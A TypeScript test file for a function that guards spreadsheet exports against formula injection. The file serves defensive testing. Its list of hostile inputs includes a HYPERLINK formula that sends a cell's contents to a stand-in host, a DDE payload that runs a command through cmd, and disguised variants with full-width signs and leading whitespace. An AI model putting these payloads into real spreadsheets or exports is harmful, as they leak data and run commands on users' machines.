import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { guardedText, looksLikeFormula, unguardedText } from './formula-text.ts';

const HOSTILE = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  ' =1+1',
  '   =1+1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\tx',
  '＝1+1',
  '＋1',
  '－1',
  '＠A1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '=HYPERLINK("http://a.example/?"&A1,"klik")',
  "=cmd|' /C calc'!A0",
  '@import',
  '-',
];

describe('a text that a spreadsheet would run', () => {
  it.each(HOSTILE)('%j gets an apostrophe, and loses it again', (text) => {
    expect([looksLikeFormula(text), guardedText(text), unguardedText(guardedText(text))]).toEqual([
      true,
      `'${text}`,
      text,
    ]);
  });

  it.each(['SOP-9-01', 'a=b', '1-2', '(-1)', "'kutipan'", '"=1+1"', '', ' ', '10 %', "Ma'ruf"])(
    '%j stays as it is',
    (text) => {
      expect([guardedText(text), unguardedText(text)]).toEqual([text, text]);
    },
  );

  it("keeps apostrophes that were the text's own", () => {
    for (const text of ["'=1+1", "''=1+1", "'-"]) expect(unguardedText(guardedText(text))).toBe(text);
  });

  it('is never there after guarding, and comes back whole whatever it was', () => {
    const nasty = fc.array(fc.constantFrom("'", '=', '+', '-', '@', ' ', '\t', '\n', 'a', '1', '＝'), { maxLength: 6 });
    fc.assert(
      fc.property(
        fc.oneof(
          nasty.map((signs) => signs.join('')),
          fc.string(),
        ),
        (text) => {
          expect(looksLikeFormula(guardedText(text))).toBe(false);
          expect(unguardedText(guardedText(text))).toBe(text);
        },
      ),
      { numRuns: 2000 },
    );
  });
});
